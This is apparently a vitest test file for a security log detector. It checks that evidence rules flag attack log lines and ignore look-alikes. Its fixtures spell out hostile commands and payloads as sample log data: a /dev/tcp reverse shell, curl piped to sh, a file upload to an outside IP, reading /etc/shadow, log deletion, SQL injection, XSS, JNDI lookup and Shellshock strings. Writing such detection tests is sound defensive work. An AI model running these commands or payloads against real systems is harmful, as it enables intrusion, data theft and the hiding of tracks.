import { describe, expect, test } from "vitest";
import { decodeLines } from "../decode.ts";
import type { LogEvent } from "../event.ts";
import { parseEvents } from "../parse-events.ts";
import { EVIDENCE_RULES } from "./evidence-rules.ts";
import { findEvidence } from "./find-evidence.ts";

function eventOf(line: string): LogEvent {
  const lines = decodeLines(new TextEncoder().encode(`${line}\n`));
  const [event] = parseEvents(lines, { now: "2026-03-10T00:00:00Z", timeZone: "UTC", isFinal: true }).events;
  if (event === undefined) throw new Error(`no event in ${line}`);
  return event;
}
const ids = (line: string): string[] => findEvidence(eventOf(line)).map(({ id }) => id);
const evidence = (line: string): string[] =>
  findEvidence(eventOf(line)).flatMap(({ id, severity }) => (severity === null ? [] : [id]));
const sys = (rest: string): string => `Mar  4 09:12:33 gate1 ${rest}`;
const web = (request: string, status = 404, agent = "Mozilla/5.0"): string =>
  `198.51.100.20 - - [04/Mar/2026:09:12:33 +0000] "${request}" ${status} 312 "-" "${agent}"`;
const trail = (rest: string): string =>
  `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"kim"},"eventTime":"2026-03-04T09:12:33Z",${rest},"sourceIPAddress":"198.51.100.20"}`;

const windows = (id: number): string =>
  `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>${id}</EventID><TimeCreated SystemTime='2026-03-04T09:12:33Z'/><Computer>PC1</Computer></System><EventData><Data Name='TargetUserName'>kim</Data></EventData><RenderingInfo Culture='de-DE'><Message>Fehler beim Anmelden.</Message></RenderingInfo></Event>`;
const execve = (words: string): string => `type=EXECVE msg=audit(1772615553.123:42): argc=3 ${words}`;

/** A rule, a line that it is for, and a line that only looks like it. */
// prettier-ignore
const CASES: readonly (readonly [string, string, string])[] = [
  ["login-failed", sys("portal[7]: Failed login for kim from 198.51.100.20"), sys("portal[7]: failed to load the login page template")],
  ["login-failed-tag", sys("imapd[7]: LOGIN FAILED, user=kim, ip=[::ffff:198.51.100.20]"), sys("metrics[7]: gauge login_seconds is 4")],
  ["login-unknown-user", sys("sshd[7]: Invalid user git2 from 198.51.100.20 port 5022"), sys("shop[7]: invalid user input in field city")],
  ["login-refused-by-database", '2026-03-04 09:12:33 UTC [88] FATAL:  password authentication failed for user "shop"', "2026-03-04 09:12:33 UTC [88] LOG:  connection authorized: user=shop database=shop"],
  ["login-failed-other-language", sys("portal[7]: Anmeldung fehlgeschlagen von 198.51.100.20"), sys("portal[7]: Anmeldung von 198.51.100.20 erfolgreich")],
  ["login-not-authorized-by-http", web("GET /reports HTTP/1.1", 401), web("GET /reports/401 HTTP/1.1", 200)],
  ["login-form-refused", web("POST /users/login HTTP/1.1", 403), web("POST /session/12/note HTTP/1.1", 403)],
  ["ssh-gave-up-before-login", sys("sshd[7]: Connection closed by authenticating user root 198.51.100.20 port 5022 [preauth]"), sys("sshd[7]: Disconnected from user kim 198.51.100.20 port 5022")],
  ["ssh-user-refused", sys("sshd[7]: User kim from 198.51.100.20 not allowed because not listed in AllowUsers"), sys("sshd[7]: pam_unix(sshd:session): session closed for user kim")],
  ["ssh-protocol-abuse", sys("sshd[7]: Bad protocol version identification 'GET / HTTP/1.1' from 198.51.100.20 port 5022"), sys("sshd[7]: Server listening on 0.0.0.0 port 22.")],
  ["ssh-user-name-forges-log", sys("sshd[7]: Failed password for invalid user a from 192.0.2.7 port 1 ssh2 from 198.51.100.20 port 5022 ssh2"), sys("sshd[7]: Failed password for invalid user a from 198.51.100.20 port 5022 ssh2")],
  ["honeypot-visitor", `{"eventid":"cowrie.login.failed","src_ip":"198.51.100.20","timestamp":"2026-03-04T09:12:33Z","message":"login attempt"}`, `{"eventid":"session.closed","src_ip":"198.51.100.20","timestamp":"2026-03-04T09:12:33Z","message":"bye"}`],
  ["sudo-refused", sys("sudo:      kim : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/kim ; USER=root ; COMMAND=/bin/cat"), sys("sudo:      kim : TTY=pts/1 ; PWD=/home/kim ; USER=root ; COMMAND=/bin/cat")],
  ["privilege-exploit", sys("pkexec[7]: kim: The value for the SHELL variable was not found the /etc/shells file [USER=root]"), sys("pkexec[7]: kim: Executing command [USER=root] [COMMAND=/usr/sbin/gparted]")],
  ["crash-of-privileged-program", sys("kernel: sudo[71]: segfault at 7f1 ip 00007 sp 00007 error 6"), sys("kernel: viewer[71]: segfault at 7f1 ip 00007 sp 00007 error 6")],
  ["account-created", sys("useradd[7]: new user: name=backup2, UID=1007, GID=1007, home=/home/backup2"), sys("mailer[7]: new user newsletter was sent")],
  ["account-changed", sys("passwd[7]: pam_unix(passwd:chauthtok): password changed for kim"), sys("web[7]: password policy changed")],
  ["keys-or-rights-changed", sys("sudo:  kim : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/tee -a /root/.ssh/authorized_keys"), sys("sshd[7]: debug: trying public key file /home/kim/.ssh/authorized_keys")],
  ["job-added", sys("crontab[7]: (kim) REPLACE (kim)"), sys("crontab[7]: (kim) LIST (kim)")],
  ["reverse-shell", sys("audit: cmd=bash -i >& /dev/tcp/198.51.100.20/4444 0>&1"), sys("app[7]: wrote 12 bytes to /dev/null over tcp")],
  ["download-and-run", sys("sudo:  kim : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c curl -s http://198.51.100.20/i | sh"), sys("app[7]: curl http://192.0.2.4/health answered 200")],
  ["history-or-log-cleared", sys("audit: cmd=rm -rf /var/log/auth.log"), sys("logrotate[7]: rotating pattern /var/log/auth.log")],
  ["guard-switched-off", sys("sudo:  kim : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/systemctl stop auditd"), sys("systemd[1]: Started auditd.service")],
  ["set-uid-file", sys("audit: cmd=chmod u+s /usr/local/bin/helper"), sys("audit: cmd=chmod 644 /etc/motd")],
  ["kernel-module", sys("kernel: helper: module verification failed: signature and/or required key missing - tainting kernel"), sys("kernel: usb 1-1: new high-speed device")],
  ["run-from-temporary-folder", sys("sudo:  kim : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/tmp/.x/run"), sys("app[7]: cleaned /tmp/ of 12 files")],
  ["attack-tool", sys("audit: cmd=./xmrig -o stratum+tcp://192.0.2.9:3333"), sys("kernel: Bluetooth: initialised")],
  ["container-escape", sys("audit: cmd=nsenter -t 1 -m -u sh"), sys("dockerd[7]: container 3f2 started, Privileged=false")],
  ["credentials-read", sys("audit: cmd=cat /etc/shadow"), sys("audit: cmd=ls /etc/shadow-maint")],
  ["host-searched", sys("audit: cmd=find / -perm -4000 -type f"), sys("audit: cmd=find /srv -name report")],
  ["kernel-guard-refused", sys('kernel: audit: apparmor="DENIED" operation="open" name="/etc/motd" comm="x"'), sys("kernel: device veth3 entered promiscuous mode")],
  ["connection-refused-by-service", sys("snmpd[7]: Connection from UDP: [198.51.100.20]:4022 REFUSED"), sys("app[7]: connection from 192.0.2.4 taken")],
  ["attack-reported", sys("ftpd[7]: host (198.51.100.20): SECURITY VIOLATION: root login attempted."), sys("game[7]: 192.0.2.4 plays attack and hack")],
  ["data-sent-out", sys("audit: cmd=curl --upload-file /srv/db.tar http://198.51.100.20/"), sys("backup[7]: tar of /srv done, 12 MB")],
  ["malware-found", sys("clamd[7]: /srv/up/a.bin: Win.Trojan.Agent-12 FOUND"), sys("clamscan[7]: Infected files: 0")],
  ["web-path-traversal", web("GET /img/..%252f..%252fetc/passwd HTTP/1.1"), web("GET /docs/v1..v2/changes HTTP/1.1", 200)],
  ["web-sql-injection", web("GET /item?id=4%27%20UNION%20ALL%20SELECT%20name%20FROM%20users-- HTTP/1.1"), web("GET /select?union=workers&order=by-name HTTP/1.1", 200)],
  ["web-cross-site-scripting", web("GET /find?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200), web("GET /find?q=alert+me+on+error HTTP/1.1", 200)],
  ["web-script-in-text", sys("shop[7]: customer name is <script>document.location='//x'</script>"), sys("shop[7]: customer wrote 3 < 4 and script > prose")],
  ["web-command-injection", web("GET /ping?ip=192.0.2.1;cat%20/srv/key HTTP/1.1"), web("GET /category/cats;page=2 HTTP/1.1", 200)],
  ["web-lookup-injection", web("GET / HTTP/1.1", 200, "${${lower:j}ndi:ldap://192.0.2.9/a}"), sys("app[7]: template uses ${name} and ${env}")],
  ["web-expression-injection", web("GET / HTTP/1.1", 200, "() { :; }; /bin/true"), sys("app[7]: compiled function() { return 4 }")],
  ["web-remote-file-inclusion", web("GET /index.php?page=http://192.0.2.9/s.txt? HTTP/1.1"), web("GET /go?to=https://example.org/ HTTP/1.1", 302)],
  ["web-shell", web("GET /uploads/2026/c99.php HTTP/1.1"), web("GET /blog/shell-scripting HTTP/1.1", 200)],
  ["web-file-probe", web("GET /.env HTTP/1.1"), web("GET /environment HTTP/1.1", 200)],
  ["web-admin-probe", web("GET /phpmyadmin/index.php HTTP/1.1"), web("GET /about/php HTTP/1.1", 200)],
  ["web-scanner", web("GET / HTTP/1.1", 200, "Mozilla/5.0 (compatible; Nikto/2.5)"), web("GET / HTTP/1.1", 200, "Mozilla/5.0 (Nikita's phone)")],
  ["web-no-http", web("\\x16\\x03\\x01\\x02", 400), web("GET /x HTTP/1.1", 400)],
  ["web-open-proxy-probe", web("CONNECT mail.example.org:25 HTTP/1.1", 405), web("GET /connect HTTP/1.1", 200)],
  ["web-refused-by-server", `2026/03/04 09:12:33 [error] 9#9: *1 access forbidden by rule, client: 198.51.100.20, server: _, request: "GET /x HTTP/1.1"`, `2026/03/04 09:12:33 [notice] 9#9: signal process started`],
  ["web-login-tried", web("POST /wp-login.php HTTP/1.1", 200), web("POST /wp-login.php HTTP/1.1", 302)],
  ["web-cache-bypass", web("GET /?8812736152 HTTP/1.1", 200), web("GET /?page=2 HTTP/1.1", 200)],
  ["mail-login-failed", sys("postfix/smtpd[7]: warning: unknown[198.51.100.20]: SASL LOGIN authentication failed: UGFzc3dvcmQ6"), sys("postfix/smtpd[7]: connect from unknown[198.51.100.20]")],
  ["mail-refused", sys("postfix/smtpd[7]: NOQUEUE: reject: RCPT from unknown[198.51.100.20]: 554 5.7.1 <a@example.org>: Relay access denied"), sys("postfix/smtp[7]: 3F2: to=<a@example.org>, status=sent (250 ok)")],
  ["mail-script-in-address", sys("exim[7]: rejected RCPT <${run{/bin/sh}}@example.org>"), sys("exim[7]: mail for runner@example.org taken")],
  ["intrusion-alert", "03/04-09:12:33.1  [**] [1:2100498:7] GPL ATTACK_RESPONSE [**] [Priority: 2] {TCP} 198.51.100.20:80 -> 192.0.2.4:4022", sys("game[7]: attack on castle 7 failed, 3 units lost")],
  ["firewall-alert", "%ASA-4-405001: Received ARP response collision from 192.0.2.4/aaaa.bbbb.cccc on interface inside", "%ASA-6-305012: Teardown dynamic TCP translation from inside:192.0.2.4/99 to outside:198.51.100.20/99"],
  ["device-login-refused", '%ASA-6-605004: Login denied from 198.51.100.20/3259 to outside:192.0.2.4/ssh for user "kim"', '%ASA-6-605005: Login permitted from 192.0.2.9/3259 to inside:192.0.2.4/ssh for user "kim"'],
  ["device-configuration-changed", "%ASA-5-111007: Begin configuration: 198.51.100.20 reading from device.", "%ASA-5-111010: User 'kim', running 'CLI' from IP 192.0.2.9, executed 'terminal pager 0'"],
  ["dns-refused", sys("named[7]: client 198.51.100.20#4795: query (cache) 'example.org/ANY/IN' denied"), sys("dnsmasq[7]: query[A] example.org from 192.0.2.4")],
  ["vpn-refused", "2026-03-04 09:12:33 198.51.100.20:4022 TLS Error: incoming packet authentication failed from [AF_INET]198.51.100.20:4022", "2026-03-04 09:12:33 198.51.100.20:4022 TLS: Initial packet from [AF_INET]198.51.100.20:4022"],
  ["phone-refused", "[2026-03-04 09:12:33] NOTICE[16] chan_sip.c: Registration from '<sip:30@example.org>' failed for '198.51.100.20' - Wrong password", "[2026-03-04 09:12:33] NOTICE[16] chan_sip.c: Registered SIP '30' at 192.0.2.4:5060"],
  ["address-banned", sys("fail2ban.actions[7]: NOTICE [sshd] Ban 198.51.100.20"), sys("fail2ban.actions[7]: NOTICE [sshd] Unban 198.51.100.20")],
  ["cloud-log-stopped", trail('"eventName":"StopLogging"'), trail('"eventName":"StartLogging"')],
  ["cloud-log-changed", trail('"eventName":"UpdateTrail"'), trail('"eventName":"DescribeTrails"')],
  ["cloud-right-given", trail('"eventName":"AttachUserPolicy"'), trail('"eventName":"ListAttachedUserPolicies"')],
  ["cloud-door-opened", trail('"eventName":"AuthorizeSecurityGroupIngress"'), trail('"eventName":"DescribeSecurityGroups"')],
  ["cloud-login-failed", trail('"eventName":"ConsoleLogin","errorMessage":"Failed authentication"'), trail('"eventName":"ConsoleLogin"')],
  ["cloud-root-used", trail('"eventName":"ListUsers"').replace("IAMUser", "Root"), trail('"eventName":"ListUsers"')],
  ["cloud-access-denied", trail('"eventName":"ListUsers","errorCode":"AccessDenied"'), trail('"eventName":"ListUsers","errorCode":"Throttling"')],
  ["container-entered", `{"kind":"Event","verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-1/exec?command=sh","sourceIPs":["192.0.2.4"]}`, `{"kind":"Event","verb":"get","requestURI":"/api/v1/namespaces/shop/pods/web-1/log","sourceIPs":["192.0.2.4"]}`],
];

describe("an event is evidence for what it shows", () => {
  test.each(CASES)("%s", (rule, line) => {
    expect(evidence(line)).toContain(rule);
  });
});

describe("an event that only shares words with an attack is left alone", () => {
  test.each(CASES)("%s", (rule, _line, lookAlike) => {
    expect(ids(lookAlike)).not.toContain(rule);
  });
  test.each([
    sys("planner[7]: select best attack route for knight, 3 failed"),
    sys("systemd[1]: Failed to start Login Service."),
    sys("app[7]: user service failed health check, retry in 5 s"),
    sys("CRON[7]: (root) CMD (test -x /usr/sbin/anacron || run-parts /etc/cron.daily)"),
    sys("app[7]: INSERT INTO notes (title) VALUES ('or 1=1 is true') took 4 ms"),
    sys("kernel: [UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.20 DST=192.0.2.4 PROTO=TCP SPT=4022 DPT=23"),
    web("GET /search?q=how+to+select+a+password+manager HTTP/1.1", 200),
    web("GET /docs/injection-attacks.html HTTP/1.1", 200),
  ])("%s", (line) => {
    expect(evidence(line)).toEqual([]);
  });
});

test("Windows events count by their number, in any language", () => {
  expect([4625, 4720, 1102, 4697, 4624, 4634].map((id) => evidence(windows(id)))).toEqual([
    ["windows-login-failed"],
    ["windows-account-created"],
    ["windows-log-cleared"],
    ["windows-service-added"],
    [],
    [],
  ]);
});

test("auditd's words are read as one command, also those in hexadecimal digits", () => {
  expect(evidence(execve('a0="nc" a1="-e" a2="/bin/sh"'))).toContain("reverse-shell");
  // The digits are those of `chmod u+s /bin/sh`.
  expect(evidence(execve('a0="sh" a1="-c" a2=63686D6F6420752B73202F62696E2F7368'))).toContain("set-uid-file");
  expect(evidence(execve('a0="ls" a1="-e" a2="/bin"'))).toEqual([]);
});

test("every rule with a severity is tried above, but Windows' and a few of the clouds'", () => {
  const tried = new Set(CASES.map(([rule]) => rule));
  const untried = EVIDENCE_RULES.filter(({ id, severity }) => severity !== null && !tried.has(id));
  expect(untried.map(({ id }) => id).filter((id) => !id.startsWith("windows-"))).toEqual([
    "cloud-threat-reported",
    "cluster-right-given",
    "container-destroyed",
    "access-granted-to-sensor",
  ]);
});

test("every rule has an id of its own, literals, and techniques of ATT&CK", () => {
  expect(new Set(EVIDENCE_RULES.map(({ id }) => id)).size).toBe(EVIDENCE_RULES.length);
  for (const { literals, techniques } of EVIDENCE_RULES) {
    expect(
      literals.every(
        (literal) => /^[\x20-\x7e]{2,}$/.test(literal) || [";", "|", "`", "'"].includes(literal),
      ),
    ).toBe(true);
    expect(techniques.every((technique) => /^T\d{4}(?:\.\d{3})?$/.test(technique))).toBe(true);
  }
});
